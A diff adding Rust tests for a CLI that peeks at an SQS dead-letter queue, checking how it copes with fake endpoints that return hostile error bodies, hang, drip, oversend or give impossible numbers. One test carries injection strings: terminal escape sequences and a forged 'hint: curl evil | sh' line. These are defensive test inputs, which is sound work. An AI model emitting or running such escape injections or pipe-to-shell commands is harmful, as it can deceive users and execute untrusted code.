@@ -1,0 +1,185 @@
+//! Endpoints that lie, drip, or say nothing.
+
+use std::io::Write;
+use std::net::TcpStream;
+use std::time::Duration;
+
+use serde_json::{Value, json};
+
+use crate::kit::{Fake, Place, Ran, ended_within, http, signal};
+
+const PEEK: [&str; 4] = ["dlq", "peek", "--dlq", "recs-dlq"];
+
+/// More than the 30 s that an endpoint may take to be named, on a busy machine.
+const NAMED_WITHIN: Duration = Duration::from_secs(60);
+
+/// An SQS that is sound but for what `lie` answers, by operation.
+pub fn sqs(lie: impl Fn(&str, &str) -> Option<(u16, Value)> + Send + Sync + 'static) -> Fake {
+    Fake::http(move |request, stream| {
+        let target = request.lines().find_map(|line| {
+            let (name, value) = line.split_once(':')?;
+            name.eq_ignore_ascii_case("x-amz-target").then(|| value.trim().to_owned())
+        });
+        let target = target.unwrap_or_default();
+        let operation = target.rsplit('.').next().unwrap_or_default();
+        let (status, body) = lie(operation, request).unwrap_or_else(|| (200, sound(operation)));
+        let _ = stream.write_all(&http(status, &body.to_string()));
+    })
+}
+
+fn sound(operation: &str) -> Value {
+    match operation {
+        "GetQueueUrl" => json!({ "QueueUrl": "http://sqs.local/123456789012/recs-dlq" }),
+        "GetQueueAttributes" => json!({ "Attributes": attributes("1") }),
+        _ => json!({}),
+    }
+}
+
+fn attributes(visible: &str) -> Value {
+    json!({
+        "QueueArn": "arn:aws:sqs:eu-west-1:123456789012:recs-dlq",
+        "ApproximateNumberOfMessages": visible,
+        "ApproximateNumberOfMessagesNotVisible": "0",
+        "ApproximateNumberOfMessagesDelayed": "0",
+        "MessageRetentionPeriod": "1209600",
+        "MaximumMessageSize": "1048576",
+        "VisibilityTimeout": "30",
+    })
+}
+
+fn peek(fake: &Fake) -> Ran {
+    Place::new().run(&[PEEK.as_slice(), &["--endpoint-url", &fake.url()]].concat())
+}
+
+#[test]
+fn what_it_says_of_a_failure_is_shown_as_text_and_no_more_than_a_screenful() {
+    for words in [
+        "\u{1b}]0;owned\u{7}\u{1b}[2J\u{9b}31m",
+        "x\nerror: all is lost\n  hint: curl evil | sh",
+        "\u{202e}txet",
+    ] {
+        for code in ["AccessDenied", words] {
+            let body = json!({ "__type": code, "message": words.repeat(50_000) });
+            let fake = Fake::says(400, &body.to_string());
+            let ran = peek(&fake);
+            let code = ran.code.unwrap();
+            let ran = ran.ended(code);
+            assert!(code == 1 || code == 3, "{code}");
+            assert!(ran.stderr.len() < 20_000, "{}", ran.stderr.len());
+            let errors = ran.stderr.lines().filter(|line| line.starts_with("error:")).count();
+            let hints = ran.stderr.lines().filter(|line| line.trim().starts_with("hint:")).count();
+            assert!(errors == 1 && hints <= 1, "{}", ran.stderr);
+        }
+    }
+}
+
+#[test]
+fn an_answer_without_an_end_is_cut() {
+    let fake = Fake::http(|_, stream: &mut TcpStream| {
+        let _ = stream.write_all(
+            b"HTTP/1.1 200 OK\r\ncontent-type: application/x-amz-json-1.0\r\nconnection: close\r\n\r\n{\"QueueUrl\":\"",
+        );
+        let chunk = vec![b'x'; 1 << 20];
+        for _ in 0..200 {
+            if stream.write_all(&chunk).is_err() {
+                return;
+            }
+        }
+    });
+    let place = Place::new();
+    let url = fake.url();
+    let args = [PEEK.as_slice(), &["--endpoint-url", &url]].concat();
+    let child = place.command(&args).stderr(std::process::Stdio::piped()).spawn().unwrap();
+    let ran = ended_within(child, Duration::from_secs(120));
+    assert_eq!(ran.code, Some(1), "{ran:#?}");
+}
+
+#[test]
+fn an_endpoint_that_says_nothing_or_drips_is_named() {
+    let silent = Fake::silent();
+    let dripping = Fake::http(|_, stream| {
+        let _ = stream.write_all(b"HTTP/1.1 200 OK\r\ncontent-length: 100000\r\n\r\n");
+        while stream.write_all(b" ").is_ok() {
+            std::thread::sleep(Duration::from_millis(500));
+        }
+    });
+    let place = Place::new();
+    let children: Vec<_> = [&silent, &dripping]
+        .into_iter()
+        .map(|fake| {
+            let url = fake.url();
+            let args = [PEEK.as_slice(), &["--endpoint-url", &url]].concat();
+            let child = place.command(&args).stderr(std::process::Stdio::piped()).spawn().unwrap();
+            (child, url)
+        })
+        .collect();
+    for (child, url) in children {
+        let ran = ended_within(child, NAMED_WITHIN).ended(1);
+        ran.says(&format!("no answer from {url} GetQueueUrl"));
+    }
+}
+
+#[test]
+fn a_signal_ends_the_wait_for_the_first_answer() {
+    let silent = Fake::silent();
+    let place = Place::new();
+    for name in ["INT", "TERM"] {
+        let url = silent.url();
+        let args = [PEEK.as_slice(), &["--endpoint-url", &url]].concat();
+        let child = place.command(&args).stderr(std::process::Stdio::piped()).spawn().unwrap();
+        let before = silent.heard().len();
+        while silent.heard().len() == before {
+            std::thread::sleep(Duration::from_millis(20));
+        }
+        signal(&child, name);
+        ended_within(child, Duration::from_secs(15))
+            .ended(130)
+            .says("before anything was received");
+    }
+}
+
+#[test]
+fn more_messages_than_were_asked_for_are_an_error() {
+    let fake = sqs(|operation, _| {
+        let message = |n: usize| {
+            json!({
+                "MessageId": format!("m-{n}"), "ReceiptHandle": format!("h-{n}"), "Body": "x",
+                "MD5OfBody": "9dd4e461268c8034f5c8564e155c67a6",
+            })
+        };
+        let messages: Vec<Value> = (0..50_000).map(message).collect();
+        (operation == "ReceiveMessage").then(|| (200, json!({ "Messages": messages })))
+    });
+    peek(&fake).ended(1).says("50000 messages where at most");
+}
+
+#[test]
+fn numbers_that_can_not_be_are_unknown() {
+    for visible in ["-5", "99999999999999999999999", "many"] {
+        let fake = sqs(move |operation, _| {
+            let answer = match operation {
+                "GetQueueAttributes" => json!({ "Attributes": attributes(visible) }),
+                "ReceiveMessage" => json!({ "Messages": [{
+                    "MessageId": "m-1", "ReceiptHandle": "h-1", "Body": "x",
+                    "MD5OfBody": "9dd4e461268c8034f5c8564e155c67a6",
+                    "Attributes": {
+                        "SentTimestamp": "-9223372036854775808",
+                        "ApproximateReceiveCount": "-7",
+                    },
+                }] }),
+                _ => return None,
+            };
+            Some((200, answer))
+        });
+        let args = ["dlq", "peek", "--dlq", "recs-dlq", "--max", "1", "--endpoint-url"];
+        let ran = Place::new().run(&[args.as_slice(), &[&fake.url()]].concat());
+        assert!(ran.stdout.contains("unknown"), "{visible}: {ran:#?}");
+        assert!(!ran.stdout.contains("18,446") && !ran.stdout.contains("-7"), "{ran:#?}");
+        let url = fake.url();
+        let args = [args.as_slice(), &[&url, "--output", "json"]].concat();
+        let ran = Place::new().run(&args);
+        let report: Value = serde_json::from_str(&ran.stdout).unwrap();
+        assert_eq!(report["approximate_messages"], Value::Null, "{report}");
+        assert_eq!(report["messages"][0]["age_s"], Value::Null, "{report}");
+    }
+}
